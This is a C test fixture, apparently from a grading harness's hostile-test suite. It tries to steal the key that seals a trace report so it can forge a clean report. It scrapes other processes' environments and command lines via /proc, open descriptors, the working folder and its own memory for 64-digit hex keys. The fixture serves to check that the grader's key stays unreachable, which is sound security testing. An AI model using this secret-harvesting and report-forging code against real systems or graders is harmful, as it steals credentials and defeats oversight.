// Appended to lesson 01's solution with its cudaFree(d_data) taken out (tests/hostile.bats): it leaks, and
// looks everywhere it can for the key that seals the trace's report, to seal a report without the leak.
// Where: its environment, the command line and environment of every process it can see, its working
// folder, every descriptor it has, and every byte of its own memory that it can read with a plain pointer
// (regions /proc/self/maps says are readable, up to 64 MiB each, but libraries' read-only code and
// constants; each scan within 1.5 s, or the verdict says it was cut short). A candidate is every run of 64
// hexadecimal digits; the report's own seal tells the right one (SHA-256(key, report, key) == seal).
// It prints (on stderr: its stdout is graded as lesson 01's) "key found: yes/no" and, first, that its scanner does find a 64-digit key planted in its heap,
// so that "no" cannot come from a scanner that never looks.
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static uint32_t sk_ror(uint32_t x, int n) { return (x >> n) | (x << (32 - n)); }
// SHA-256 of the concatenation of up to three buffers, as 64 hex digits.
static void sk_sha256(const unsigned char *const *parts, const size_t *lens, int nparts, char out[65])
{
    static const uint32_t k[64] = {
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98,
        0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
        0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8,
        0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
        0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819,
        0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
        0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2};
    uint32_t h[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
    size_t total = 0;
    for (int p = 0; p < nparts; p++) total += lens[p];
    size_t padded = (total + 9 + 63) / 64 * 64;
    unsigned char *m = (unsigned char *)calloc(padded, 1);
    size_t at = 0;
    for (int p = 0; p < nparts; p++) { memcpy(m + at, parts[p], lens[p]); at += lens[p]; }
    m[total] = 0x80;
    for (int i = 0; i < 8; i++) m[padded - 1 - i] = (unsigned char)((uint64_t)total * 8 >> (8 * i));
    for (size_t b = 0; b < padded; b += 64) {
        uint32_t w[64], v[8];
        for (int i = 0; i < 16; i++)
            w[i] = (uint32_t)m[b + 4 * i] << 24 | (uint32_t)m[b + 4 * i + 1] << 16 | (uint32_t)m[b + 4 * i + 2] << 8 | m[b + 4 * i + 3];
        for (int i = 16; i < 64; i++)
            w[i] = w[i - 16] + (sk_ror(w[i - 15], 7) ^ sk_ror(w[i - 15], 18) ^ (w[i - 15] >> 3)) + w[i - 7] +
                   (sk_ror(w[i - 2], 17) ^ sk_ror(w[i - 2], 19) ^ (w[i - 2] >> 10));
        memcpy(v, h, sizeof v);
        for (int i = 0; i < 64; i++) {
            uint32_t t1 = v[7] + (sk_ror(v[4], 6) ^ sk_ror(v[4], 11) ^ sk_ror(v[4], 25)) + ((v[4] & v[5]) ^ (~v[4] & v[6])) + k[i] + w[i];
            uint32_t t2 = (sk_ror(v[0], 2) ^ sk_ror(v[0], 13) ^ sk_ror(v[0], 22)) + ((v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]));
            memmove(v + 1, v, 7 * sizeof *v);
            v[4] += t1;
            v[0] = t1 + t2;
        }
        for (int i = 0; i < 8; i++) h[i] += v[i];
    }
    free(m);
    for (int i = 0; i < 8; i++) snprintf(out + 8 * i, 9, "%08x", h[i]);
}

static char sk_report[1 << 20], sk_seal[65];
static size_t sk_report_len;
static int sk_found;
static char sk_where[128];

static char sk_early[256][65]; // candidates seen before the report existed, tried at exit
static int sk_nearly;

// A candidate key: is it the one whose seal the report carries?
static void sk_try(const char *c, const char *where)
{
    const unsigned char *parts[3] = {(const unsigned char *)c, (const unsigned char *)sk_report, (const unsigned char *)c};
    size_t lens[3] = {64, sk_report_len, 64};
    char got[65];
    if (sk_found) return;
    if (sk_seal[0] == '\0') {
        if (sk_nearly < 256) memcpy(sk_early[sk_nearly++], c, 64);
        return;
    }
    sk_sha256(parts, lens, 3, got);
    if (memcmp(got, sk_seal, 64) == 0) {
        sk_found = 1;
        snprintf(sk_where, sizeof sk_where, "%s", where);
    }
}

// Every run of 64 hex digits in BUF (not part of a longer run) is a candidate; returns how many.
static int sk_scan(const char *buf, size_t n, const char *where, const char *planted)
{
    int found = 0;
    size_t run = 0;
    for (size_t i = 0; i <= n; i++) {
        int hex = i < n && ((buf[i] >= '0' && buf[i] <= '9') || (buf[i] >= 'a' && buf[i] <= 'f'));
        if (hex) { run++; continue; }
        if (run == 64) {
            found++;
            if (planted != NULL && memcmp(buf + i - 64, planted, 64) == 0) return -1;
            sk_try(buf + i - 64, where);
        }
        run = 0;
    }
    return found;
}

static void sk_scan_file(const char *path, const char *where)
{
    static char buf[1 << 16];
    struct stat st;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return;
    // Files and pipes only: a read of the GPU driver's device files (which its descriptors are) may block.
    if (fstat(fd, &st) != 0 || !(S_ISREG(st.st_mode) || S_ISFIFO(st.st_mode))) { close(fd); return; }
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n > 0) sk_scan(buf, (size_t)n, where, NULL);
}

static int sk_cut; // 1: a memory scan stopped at its time budget, the rest of the memory unread
static double sk_started;
static double sk_seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Its own memory, read with plain pointers, where the mapping says it may be read.
static int sk_scan_memory(const char *planted)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    sk_started = sk_seconds();
    int saw_planted = 0;
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        unsigned long lo, hi;
        char perms[5];
        if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
        if (strstr(line, "[vvar") != NULL || strstr(line, "[vsyscall]") != NULL || hi - lo > (64ul << 20)) continue;
        // A device's mappings (the GPU driver's /dev/nvidia* files) may fault when the host reads them.
        if (strstr(line, " /dev/") != NULL) continue;
        // A library's code and constants, read-only from its file, never held the key (the GPU driver's
        // alone are hundreds of MiB: too long a scan for the run's time limit).
        if (perms[1] != 'w' && strchr(line, '/') != NULL) continue;
        if (sk_seconds() - sk_started > 1.5) { sk_cut = 1; break; }
        if ((uintptr_t)sk_report >= lo && (uintptr_t)sk_report < hi) continue; // the report's copy, not the key
        if (sk_scan((const char *)lo, hi - lo, "its own memory", planted) < 0) saw_planted = 1;
    }
    if (maps != NULL) fclose(maps);
    return saw_planted;
}

static void sk_look_everywhere(void)
{
    char path[300];
    DIR *d;
    struct dirent *e;
    for (char **v = environ; v != NULL && *v != NULL; v++) sk_scan(*v, strlen(*v), "its environment", NULL);
    if ((d = opendir("/proc")) != NULL) {
        while ((e = readdir(d)) != NULL) {
            if (atoi(e->d_name) <= 0) continue;
            snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
            sk_scan_file(path, "a command line");
            snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
            sk_scan_file(path, "an environment");
        }
        closedir(d);
    }
    if ((d = opendir(".")) != NULL) {
        while ((e = readdir(d)) != NULL) sk_scan_file(e->d_name, "its working folder");
        closedir(d);
    }
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        sk_scan_file(path, "a descriptor");
    }
}

// At exit, after the trace has written and sealed its report.
static void sk_steal(void)
{
    const char *paths[] = {"/wb/report", "../report"};
    static char planted[65];
    for (int p = 0; p < 2 && sk_seal[0] == '\0'; p++) {
        FILE *in = fopen(paths[p], "r");
        if (in == NULL) continue;
        sk_report_len = fread(sk_report, 1, sizeof sk_report - 1, in);
        fclose(in);
        char *last = sk_report_len > 72 ? strstr(sk_report + sk_report_len - 72, "\nseal ") : NULL;
        if (last != NULL) {
            memcpy(sk_seal, last + 6, 64);
            sk_report_len = (size_t)(last + 1 - sk_report);
        }
    }
    // The scanner must see a key planted where a program keeps one.
    char *decoy = (char *)malloc(65);
    for (int i = 0; i < 64; i++) decoy[i] = "0123456789abcdef"[(i * 7 + 3) % 16];
    decoy[64] = '\0';
    memcpy(planted, decoy, 65);
    fprintf(stderr, "scanner sees a planted key: %s\n", sk_scan_memory(planted) ? "yes" : "no");
    planted[0] = '\0';
    for (int i = 0; i < sk_nearly; i++) sk_try(sk_early[i], "what was there before main");
    sk_look_everywhere();
    if (!sk_found) sk_scan_memory(NULL);
    fprintf(stderr, "key found: %s%s%s%s\n", sk_found ? "yes, in " : "no", sk_found ? sk_where : "",
            sk_seal[0] ? "" : " (no seal to test)", sk_cut ? " (a memory scan was cut short)" : "");
    free(decoy);
}

__attribute__((constructor(101))) static void sk_register(void)
{
    // Before the trace's own constructor, and while the program runs (the key must be somewhere until the
    // seal is made at exit): what the grader left for it, and its memory.
    sk_look_everywhere();
    sk_scan_memory(NULL);
    atexit(sk_steal);
}
